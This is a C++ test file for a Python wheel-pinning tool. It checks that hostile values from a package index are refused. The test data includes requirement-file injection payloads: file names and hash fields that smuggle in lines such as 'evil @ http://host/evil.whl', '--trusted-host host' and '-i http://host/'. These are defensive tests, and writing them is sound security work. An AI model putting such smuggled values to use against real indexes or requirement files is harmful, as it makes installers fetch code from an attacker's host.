// What an index may put into the files pin writes. The hostile values are
// the review's attacks (a file name that carries a requirement line, a
// 64-character "sha256" that carries option lines) and the characters
// pip's requirement-file reader ends a line on: it splits with Python's
// str.splitlines(), which ends lines on \n \r \v \f \x1c \x1d \x1e, U+0085,
// U+2028 and U+2029 (docs.python.org, str.splitlines). The wheel filename
// grammar is the binary distribution format spec's; the requirement line
// is the one pip's --require-hashes mode accepts.
#include "kwheel/index/index_values.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "error_support.hpp"
#include "fake_transport.hpp"
#include "kwheel/base/error.hpp"
#include "kwheel/base/text.hpp"

// Named, not only anonymous: the unity build compiles this directory's
// tests as one translation unit.
namespace kwheel::index_values_test {
namespace {

using kwheel::testing::error_of;

const std::string kPage = "http://index.test/simple/img2gray/";
const std::string kWheel = "img2gray-0.1.0+torch2.7.cu126-cp39-abi3-manylinux_2_28_x86_64.whl";
const std::string kHexA = std::string(64, 'a');
const std::string kHexB = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
// Every character that ends a line for str.splitlines(), as UTF-8.
const std::vector<std::string> kLineEnds = {"\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\xc2\x85", "\xe2\x80\xa8", "\xe2\x80\xa9"};

IndexFile listed(const std::string& filename, const std::string& sha256 = kHexA) {
  IndexFile f;
  f.filename = filename;
  f.url = "http://index.test/files/" + filename;
  f.sha256 = sha256;
  return f;
}

std::optional<std::string> problem(const IndexFile& f) { return listed_file_problem(f, "img2gray", kPage); }

bool one_line(const std::string& s) { return s.find_first_of("\n\r\v\f") == std::string::npos; }

TEST(ListedFile, AWheelOfTheProjectIsSoundWithOrWithoutAHash) {
  EXPECT_EQ(problem(listed(kWheel)), std::nullopt);
  EXPECT_EQ(problem(listed(kWheel, "")), std::nullopt);  // not pinnable, but no hostile value: pin says why
  EXPECT_EQ(problem(listed("Img2Gray-0.1.0-1-py3-none-any.whl")), std::nullopt);  // a build tag; the name normalizes to the project
  EXPECT_EQ(problem(listed("img2gray-0.1.0-py3-none-any-cu126_x86.whl")), std::nullopt);  // a PEP 825 label
  // Not wheels, never candidates: an sdist and a variants.json, whatever their hash.
  EXPECT_EQ(problem(listed("img2gray-0.1.0.tar.gz", "zz")), std::nullopt);
  EXPECT_EQ(problem(listed("img2gray-0.1.0-variants.json")), std::nullopt);
}

TEST(ListedFile, AFileNameThatCarriesARequirementLineIsRefusedNamingPageAndValue) {
  const auto why = problem(listed("img2gray-0.1.0-py3-none-any.whl\nevil @ http://host/evil.whl#sha256=" + kHexA + "\n#.whl"));
  ASSERT_TRUE(why);
  EXPECT_NE(why->find(kPage), std::string::npos) << *why;
  EXPECT_NE(why->find("img2gray-0.1.0-py3-none-any.whl\\x0aevil @ http://host/evil.whl"), std::string::npos) << *why;
  EXPECT_TRUE(one_line(*why)) << *why;
  // Without ".whl" at its end it is no distribution's name either.
  EXPECT_TRUE(problem(listed("img2gray-0.1.0-py3-none-any.whl\nevil @ http://host/evil.whl#sha256=" + kHexA)));
}

TEST(ListedFile, EveryLineEndAndEveryByteNoWheelNameHoldsIsRefused) {
  std::vector<std::string> bytes = kLineEnds;
  for (const char* b : {" ", "\t", "/", "\\", "#", ";", "%", "\"", "'", "@", "=", "$", "&", "<", ",", "\x7f", "\xff"}) bytes.emplace_back(b);
  bytes.emplace_back(1, '\0');
  for (const auto& b : bytes)
    for (const std::string& name : {"img2gray-0.1.0" + b + "-py3-none-any.whl", "img2" + b + "gray-0.1.0-py3-none-any.whl",
                                    "img2gray-0.1.0-py3-none-any" + b + ".whl", "img2gray-0.1.0-py3" + b + "-none-any.whl"}) {
      const auto why = problem(listed(name));
      ASSERT_TRUE(why) << nlohmann::json(printable(name)).dump();
      EXPECT_TRUE(one_line(*why)) << *why;
      EXPECT_NE(why->find(kPage), std::string::npos) << *why;
    }
}

TEST(ListedFile, TagsAndBuildTagsAreTheSpecs) {
  // '+' and '!' belong to versions, not to tags; tags are letters, digits and '_'.
  EXPECT_TRUE(problem(listed("img2gray-0.1.0-py3+x-none-any.whl")));
  EXPECT_TRUE(problem(listed("img2gray-0.1.0-py3-none-any!.whl")));
  EXPECT_TRUE(problem(listed("img2gray-0.1.0-py3-none-any..x.whl")));  // an empty tag
  EXPECT_TRUE(problem(listed("img2gray-0.1.0-1+x-py3-none-any.whl")));  // a build tag is a digit, then letters, digits, '_'
  EXPECT_EQ(problem(listed("img2gray-0.1.0-cp39.cp310-abi3-manylinux_2_28_x86_64.manylinux2014_x86_64.whl")), std::nullopt);
}

TEST(ListedFile, AWheelOfAnotherProjectIsRefused) {
  const auto why = problem(listed("evil-1.0-py3-none-any.whl"));
  ASSERT_TRUE(why);
  EXPECT_NE(why->find("a wheel of the project evil, not of img2gray"), std::string::npos) << *why;
}

TEST(ListedFile, AHashIsAbsentOr64LowercaseHexDigits) {
  // The review's 64 characters that are two option lines.
  std::string options = "\n--trusted-host host\n-i http://host/";
  options += std::string(64 - options.size(), 'a');
  ASSERT_EQ(options.size(), 64u);
  const auto why = problem(listed(kWheel, options));
  ASSERT_TRUE(why);
  EXPECT_NE(why->find("\\x0a--trusted-host host\\x0a-i http://host/"), std::string::npos) << *why;
  EXPECT_NE(why->find(kPage), std::string::npos) << *why;
  EXPECT_TRUE(one_line(*why)) << *why;
  for (const std::string& bad : {std::string(63, 'a'), std::string(65, 'a'), std::string(64, 'A'), std::string(63, 'a') + "g", std::string(63, 'a') + " "})
    EXPECT_TRUE(problem(listed(kWheel, bad))) << bad;
  IndexFile metadata = listed(kWheel);
  metadata.metadata_sha256 = "sha256-of-nothing";
  EXPECT_TRUE(problem(metadata));
  metadata.metadata_sha256 = "";  // PEP 658 "true": metadata without a hash
  EXPECT_EQ(problem(metadata), std::nullopt);
}

TEST(ListedFile, AUrlWithAControlByteAndASizeNoTomlIntegerHoldsAreRefused) {
  IndexFile f = listed(kWheel);
  f.url = "http://index.test/files/x.whl\r\n--trusted-host host";
  EXPECT_TRUE(problem(f));
  f.url = "http://index.test/files\xff/" + kWheel;  // --json and pylock.toml hold UTF-8 only
  EXPECT_TRUE(problem(f));
  f = listed(kWheel);
  f.size = 9223372036854775808ull;  // 2^63
  EXPECT_TRUE(problem(f));
  f.size = 9223372036854775807ull;
  EXPECT_EQ(problem(f), std::nullopt);
}

TEST(RefuseUnsoundFiles, RefusedFilesBecomeCandidatesShownEscapedTheRestStay) {
  std::vector<IndexFile> files{listed(kWheel), listed("img2gray-0.1.0-py3-none-any.whl\n--trusted-host host\n#.whl"),
                               listed("img2gray-0.2.0-py3-none-any\xff.whl"), listed("img2gray-0.1.0.tar.gz")};
  std::vector<PinCandidate> refused;
  refuse_unsound_files(files, "img2gray", kPage, refused);
  ASSERT_EQ(files.size(), 2u);
  EXPECT_EQ(files[0].filename, kWheel);
  EXPECT_EQ(files[1].filename, "img2gray-0.1.0.tar.gz");
  ASSERT_EQ(refused.size(), 2u);
  EXPECT_EQ(refused[0].file.filename, "img2gray-0.1.0-py3-none-any.whl\\x0a--trusted-host host\\x0a#.whl");
  EXPECT_EQ(refused[1].file.filename, "img2gray-0.2.0-py3-none-any\\xff.whl");
  for (const auto& c : refused) {
    ASSERT_TRUE(c.problem);
    const nlohmann::json shown{{"filename", c.file.filename}, {"reason", *c.problem}};
    EXPECT_NO_THROW((void)shown.dump());  // --json shows them
  }
}

TEST(PinnedRequirement, TheOneLineKwheelWrites) {
  EXPECT_TRUE(is_pinned_requirement("img2gray==0.1.0+torch2.7.cu126 --hash=sha256:" + kHexA));
  EXPECT_TRUE(is_pinned_requirement("img2gray==0.1.0 --hash=sha256:" + kHexA + " --hash=sha256:" + kHexB));
  EXPECT_TRUE(is_pinned_requirement("colorama==0.4.6 ; sys_platform == 'win32' --hash=sha256:" + kHexA));
  EXPECT_TRUE(is_pinned_requirement("x==1 ; (python_version < \"3.9\" or extra == 'cu-12') and platform_machine != 'x86_64' --hash=sha256:" + kHexA));
  for (const std::string& line : std::vector<std::string>{
           "img2gray==0.1.0",                                              // no hash
           "img2gray==0.1.0 --hash=sha256:" + std::string(63, 'a'),                     // short
           "img2gray==0.1.0 --hash=sha256:" + std::string(64, 'A'),                     // not lowered
           "img2gray==0.1.0 --hash=sha256:" + kHexA + " --trusted-host host",           // an option after
           "img2gray==0.1.0 --hash=sha256:" + kHexA + "\r",                             // a line end
           "img2gray==0.1.0  --hash=sha256:" + kHexA,                                   // a version with a space
           "img2gray==0.1.0 --hash=md5:" + std::string(32, 'a'),                        // another algorithm
           "evil @ http://host/evil.whl#sha256=" + kHexA,                               // a direct reference
           "--trusted-host host", "-i http://host/", "",
           "img2 gray==0.1 --hash=sha256:" + kHexA,
           "x==1 ; extra == 'a #b' --hash=sha256:" + kHexA,                             // pip reads a comment from " #"
           "x==1 ; extra == 'a -i http://host/' --hash=sha256:" + kHexA,                // and an option from " -i"
           "x==1 ; extra == 'a' ; extra == 'b' --hash=sha256:" + kHexA})
    EXPECT_FALSE(is_pinned_requirement(line)) << nlohmann::json(printable(line)).dump();
}

TEST(RequirementsComment, StaysOneLineForPip) {
  EXPECT_EQ(requirements_comment("file: x.whl\nevil @ http://host/evil.whl"), "# file: x.whl\\x0aevil @ http://host/evil.whl\n");
  for (const auto& end : kLineEnds) {
    const std::string c = requirements_comment("file: a" + end + "-i http://host/");
    EXPECT_EQ(std::count(c.begin(), c.end(), '\n'), 1) << c;
    EXPECT_TRUE(c.ends_with("\n")) << c;
    EXPECT_TRUE(std::all_of(c.begin(), c.end() - 1, [](char ch) { return ch >= 0x20 && ch < 0x7f; })) << c;
  }
}

const std::string kIndexLine = "--index-url http://index.test/simple/";

std::string text(const std::string& middle) {
  return "# kwheel pin: img2gray for torch 2.7 + CUDA 12.6\n# file: " + kWheel + "\n" + kIndexLine + "\n" + middle;
}

TEST(RequirementsText, KwheelsOwnLinesPass) {
  EXPECT_NO_THROW(check_requirements_text(text("img2gray==0.1.0+torch2.7.cu126 --hash=sha256:" + kHexA + "\n"), {kIndexLine}, "t"));
  EXPECT_NO_THROW(check_requirements_text("# from directory /d: pip install --find-links DIR\nimg2gray==0.1 --hash=sha256:" + kHexA + "\n", {}, "t"));
}

TEST(RequirementsText, AnyOtherLineIsRefusedNamingIt) {
  const std::string req = "img2gray==0.1.0+torch2.7.cu126 --hash=sha256:" + kHexA + "\n";
  const std::string injected = error_of([&] { check_requirements_text(text(req + "evil @ http://host/evil.whl#sha256=" + kHexA + "\n"), {kIndexLine}, "the requirements of img2gray"); });
  EXPECT_NE(injected.find("the requirements of img2gray would hold the line 'evil @ http://host/evil.whl"), std::string::npos) << injected;
  EXPECT_NE(injected.find("nothing is written"), std::string::npos) << injected;
  for (const std::string& bad : {text(req + "--trusted-host host\n"), text("-i http://host/\n" + req), text(req + "\n"), text(req).substr(0, text(req).size() - 1),
                                 "# a comment\r-i http://host/\n" + req, "# a comment \xc2\x85-i http://host/\n" + req, "# a comment\f\n" + req})
    EXPECT_FALSE(error_of([&] { check_requirements_text(bad, {kIndexLine}, "t"); }).empty()) << nlohmann::json(printable(bad)).dump();
  // The index line kwheel chose must itself be one word.
  const std::string spaced = "--index-url file:///tmp/my site/simple/";
  const std::string why = error_of([&] { check_requirements_text(spaced + "\n" + req, {spaced}, "t"); });
  EXPECT_NE(why.find("percent-encode it"), std::string::npos) << why;
}

// pin() itself over an index that serves the attacks, as PEP 691 JSON and
// PEP 503 HTML (a FakeTransport plays the index).
class PinHostilePage : public ::testing::Test {
 protected:
  static constexpr const char* kRoot = "http://index.test/simple/";
  void serve_json(const nlohmann::json& files) {
    const nlohmann::json page{{"meta", {{"api-version", "1.1"}}}, {"name", "img2gray"}, {"files", files}};
    index_->on(kPage, {{200, page.dump(), {{"content-type", "application/vnd.pypi.simple.v1+json"}}, "OK"}});
  }
  void serve_html(const std::string& anchors) {
    index_->on(kPage, {{200, "<!DOCTYPE html>\n<html><body>\n" + anchors + "</body></html>\n", {{"content-type", "text/html"}}, "OK"}});
  }
  static nlohmann::json file(const std::string& filename, const std::string& sha256) {
    return {{"filename", filename}, {"url", "../../files/x.whl"}, {"hashes", {{"sha256", sha256}}}};
  }
  PinRequest request() const {
    PinRequest r;
    r.source = kRoot;
    r.name = "img2gray";
    r.target = described_target("2.7", "12.6");
    r.transport = index_;
    return r;
  }
  // The lines pip acts on: what is not a comment.
  static std::vector<std::string> acted_on(const std::string& text) {
    std::vector<std::string> out;
    for (const auto& line : split(text, '\n'))
      if (!line.empty() && !line.starts_with("#")) out.push_back(line);
    return out;
  }
  std::shared_ptr<testing::FakeTransport> index_ = std::make_shared<testing::FakeTransport>();
};

TEST_F(PinHostilePage, JsonFileNameAndHashInjectionsAreCandidatesThatDoNotFit) {
  std::string options = "\n--trusted-host host\n-i http://host/";
  options += std::string(64 - options.size(), 'a');
  serve_json({file(kWheel, kHexB), file("img2gray-0.2.0-py3-none-any.whl\nevil @ http://host/evil.whl#sha256=" + kHexA + "\n#.whl", kHexA),
              file("img2gray-0.3.0-py3-none-any.whl", options)});
  const PinResult r = pin(request());
  EXPECT_EQ(acted_on(r.text), (std::vector<std::string>{"--index-url http://index.test/simple/", "img2gray==0.1.0+torch2.7.cu126 --hash=sha256:" + kHexB}));
  ASSERT_EQ(r.candidates.size(), 3u);
  EXPECT_EQ(std::count_if(r.candidates.begin(), r.candidates.end(), [](const PinCandidate& c) { return c.problem.has_value(); }), 2);
  EXPECT_NO_THROW((void)to_json(r).dump());
}

TEST_F(PinHostilePage, HtmlHrefWithAnEncodedNewlineAloneIsNoFitNamingPageAndValue) {
  serve_html("<a href=\"../../files/img2gray-0.1.0-py3-none-any.whl%0Aevil%20@%20http:%2F%2Fhost%2Fevil.whl%0A%23.whl#sha256=" + kHexA + "\">x</a>\n");
  const std::string why = error_of([&] { pin(request()); }, ErrorKind::not_found);
  EXPECT_NE(why.find(kPage), std::string::npos) << why;
  EXPECT_NE(why.find("img2gray-0.1.0-py3-none-any.whl\\x0aevil @ http://host/evil.whl"), std::string::npos) << why;
  EXPECT_TRUE(one_line(why)) << why;
}

TEST_F(PinHostilePage, OneFileNameWithTwoHashesFailsClosed) {
  serve_json({file(kWheel, kHexA), file(kWheel, kHexB)});
  const std::string why = error_of([&] { pin(request()); });
  EXPECT_NE(why.find(kPage), std::string::npos) << why;
  EXPECT_NE(why.find(kWheel), std::string::npos) << why;
  EXPECT_NE(why.find(kHexA), std::string::npos) << why;
  EXPECT_NE(why.find(kHexB), std::string::npos) << why;
  // The same hash twice is one file, pinned once.
  serve_json({file(kWheel, kHexA), file(kWheel, kHexA)});
  EXPECT_EQ(pin(request()).requirement, "img2gray==0.1.0+torch2.7.cu126 --hash=sha256:" + kHexA);
}

}  // namespace
}  // namespace kwheel::index_values_test
